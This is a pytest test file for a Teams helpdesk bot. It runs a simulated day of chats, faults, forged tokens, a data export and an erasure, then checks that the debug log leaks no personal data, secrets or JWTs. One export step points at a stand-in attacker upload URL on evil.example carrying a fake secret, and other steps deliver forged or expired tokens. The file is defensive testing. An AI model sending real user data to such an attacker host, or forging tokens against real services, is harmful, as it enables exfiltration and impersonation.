"""What the log of a day says about people: nothing. At its most talkative, with everything that may go wrong."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import logging
import re
import sys
from collections.abc import Iterator
from typing import Any

import jwt
import pytest

from bot import telemetry
from bot.sandbox import Sandbox
from bot.sandbox.people import PEOPLE
from bot.sandbox.teams import BotFailed
from bot.tokens import SignInUnavailable
from tests.conftest import Stage, staged
from tests.scenarios.test_helpdesk import MINUTE, agent, filed, helpdesk, until

DESKS = ("servicenow", "jira", "zendesk", "webhook", "mail")
SAID = (
    "why is my photo old? it shows me with a beard",
    "my job title is wrong, I am Head of Herring since Monday",
    "zorgvuldig gefrituurde kroketten met mosterd",
    "is it done yet, I wonder as I wander",
)
WRITTEN = "Mijn foto hangt scheef in de kantine, vraag het aan de conciërge"
ANSWERED = "We have straightened the picture in the canteen"


@pytest.fixture
def log(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """Standard error of a bot that says all that it can."""
    root, written = logging.getLogger(), io.StringIO()
    loggers = [root, *(one for one in root.manager.loggerDict.values() if isinstance(one, logging.Logger))]
    before = [(one, one.level) for one in loggers]
    handlers = list(root.handlers)
    root.handlers.clear()  # or what pytest keeps would be closed
    monkeypatch.setattr(sys, "stderr", written)
    telemetry.start("DEBUG")
    yield written
    root.handlers[:] = handlers
    for one, level in before:
        one.setLevel(level)


@pytest.fixture
def tokens(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every token that anybody signed."""
    made: list[str] = []
    sign = jwt.encode

    def noted(*given: Any, **more: Any) -> str:
        made.append(sign(*given, **more))
        return made[-1]

    monkeypatch.setattr(jwt, "encode", noted)
    return made


async def tried(call: Any) -> None:
    """Whatever comes of it."""
    with contextlib.suppress(BotFailed, LookupError, ValueError):
        await call


async def day(stage: Stage) -> None:
    """Asks, presses, a case with each desk, an agent at work, an export, an erasure; and what may go wrong in them."""
    world = stage.sandbox.world
    sanne = stage.client("sanne")
    await sanne.install()
    for text in SAID:
        await sanne.say(text)
    await sanne.say("why is my photo old?")
    await tried(sanne.press("Resync"))
    await tried(sanne.press("Start"))
    for key in PEOPLE:  # everybody asks, and each has something else
        await stage.client(key).say("why is my photo old?")
    await filed(stage.client("daan", locale="nl-NL"), WRITTEN)
    await until(lambda: stage.sandbox.connector.channel(stage.sandbox.helpdesk_channel).messages)
    noor = agent(stage, "noor")
    await tried(noor.press("Take"))
    await tried(noor.press("Reply"))
    await tried(noor.press("Send", inputs={"text": ANSWERED}))
    await troubles(stage)
    await sanne.say("what do you keep about me?")
    await sanne.press("Export my data")
    await sanne.consent()
    await sanne.say("what do you keep about me?")
    await sanne.press("Export my data")
    await sanne.consent(uploadUrl="https://evil.example/up?tempauth=s3cr3t")
    await sanne.say("what do you keep about me?")
    await sanne.press("Forget me")
    await sanne.press("Yes, forget me")
    await asyncio.sleep(2)
    assert world.uploads


async def troubles(stage: Stage) -> None:
    """Microsoft 365, Teams and the desks have a bad day; and somebody is up to no good."""
    world, faults = stage.sandbox.world, stage.sandbox.world.faults
    eva = stage.client("hilde")
    for host, status in (("graph", 500), ("graph", 403), ("sharepoint", 401), ("sharepoint", 503), ("login", 400)):
        faults.add(host=host, status=status)
        await eva.say("why is my photo old?")
        faults.clear()
    for trouble in ({"drop": True}, {"malformed": True}):
        faults.add(host="graph", **trouble)
        await eva.say("is my photo right?")
        faults.clear()
    faults.add(host="bot", status=403, body={"error": {"code": "BotNotInConversationRoster", "message": "x"}})
    await tried(eva.say("hello there", wait=1))
    faults.clear()
    faults.add(host="bot", status=413)
    await tried(eva.say("hello once more", wait=1))
    faults.clear()
    forged = eva.activity("I am somebody else")
    for token in ("", "x.y.z", eva.token(claims={"aud": "another"}), eva.token(claims={"exp": 1})):
        await eva.deliver(forged, token=token)
    await eva.deliver(b'{"text": "half a message')
    await eva.deliver(eva.activity("from elsewhere", channelData={"tenant": {"id": "another"}}))
    await tried(eva.press("Look again", execute=False))
    broken = stage.bot.tenant.facts_of

    async def breaks(person: str, site: str = "") -> Any:
        raise RuntimeError("a fault of ours")

    stage.bot.tenant.facts_of = breaks  # type: ignore[method-assign,assignment]
    await tried(eva.say("why is my photo old?"))
    stage.bot.tenant.facts_of = broken  # type: ignore[method-assign]
    assert world.requests


def private(sandbox: Sandbox) -> dict[str, str]:
    """What may stand in no log, and what it is."""
    found = {}
    for person in PEOPLE.values():
        mark = {
            "name": person.name,
            "surname": person.surname,
            "login": person.user_principal_name,
            "mail": person.mail,
        }
        found |= {text: f"{what} of {person.key}" for what, text in mark.items() if text and len(text) > 3}
    found |= dict.fromkeys((*SAID, WRITTEN, ANSWERED, "somebody else", "half a message"), "said")
    found |= {sandbox.login.secret: "secret", "tempauth": "an upload's own permission", "s3cr3t": "the same"}
    return found


async def test_s12_a_day_of_log_names_nobody(sqlite_url: str, log: io.StringIO, tokens: list[str]) -> None:
    async with helpdesk(sqlite_url, "channel", *DESKS, **MINUTE) as stage:
        await day(stage)
        marks = private(stage.sandbox)
        uploads = [one.secret for one in stage.sandbox.world.uploads.values()]
    written = log.getvalue()
    lines = [json.loads(line) for line in written.splitlines()]
    assert len(lines) > 50 and {line["level"] for line in lines} >= {"DEBUG", "INFO", "WARNING", "ERROR"}
    assert len(tokens) > 20
    found = {f"{what}: {text}" for text, what in marks.items() if text.casefold() in written.casefold()}
    assert not found, [line for line in lines if any(text.casefold() in str(line).casefold() for text in marks)][:5]
    assert not [token for token in (*tokens, *uploads) if token in written or token.rpartition(".")[2][:40] in written]
    assert not re.findall(r"eyJ[\w-]{8,}", written)


async def test_an_answer_of_the_sign_in_service_that_cannot_be_read_is_not_shown(
    log: io.StringIO, sqlite_url: str
) -> None:
    async with staged("sanne", sqlite_url) as stage:
        cut_off = '{"token_type": "Bearer", "refresh_token": "0.AXEA-opaque", "access_token": "eyJ0eXAi'
        stage.sandbox.world.faults.add(host="login", path="token", status=200, body=cut_off)
        with pytest.raises(SignInUnavailable):
            await stage.bot.tokens.for_bot_connector(refresh=True)
    logging.getLogger("msal").critical("this much is told")
    assert "this much is told" in log.getvalue()
    assert "opaque" not in log.getvalue() and "eyJ0" not in log.getvalue()
